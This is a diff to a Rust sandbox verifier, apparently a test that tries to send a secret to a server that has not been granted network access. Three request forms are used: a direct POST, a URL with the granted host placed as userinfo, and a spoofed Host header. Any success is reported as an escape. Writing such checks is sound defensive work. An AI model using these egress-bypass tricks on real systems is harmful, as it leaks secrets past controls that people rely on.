@@ -26,11 +26,16 @@ impl Verifier for Smuggle {
         let attempts = [
             ("POST to the ungranted server", format!("http://{ungranted}/exfiltrate"), &secret[..]),
             ("userinfo in front of the ungranted server", format!("http://{granted}@{ungranted}/x"), &secret[..]),
-            ("Host header naming the ungranted server", format!("http://{granted}/x"), &[("Host", ungranted.as_str())][..]),
+            (
+                "Host header naming the ungranted server",
+                format!("http://{granted}/x"),
+                &[("Host", ungranted.as_str())][..],
+            ),
         ];
         let mut refused = Vec::new();
         for (what, url, headers) in &attempts {
-            let request = http::Request { method: "POST", url, headers, body: b"{\"secret\":\"s3cr3t\"}" };
+            let request =
+                http::Request { method: "POST", url, headers, body: b"{\"secret\":\"s3cr3t\"}", timeout: None };
             match http::send(&request) {
                 Ok(r) => return Ok(Verdict::pass(format!("ESCAPED: {what}: HTTP {}", r.status))),
                 Err(e) => refused.push(format!("{what}: {}", e.message)),
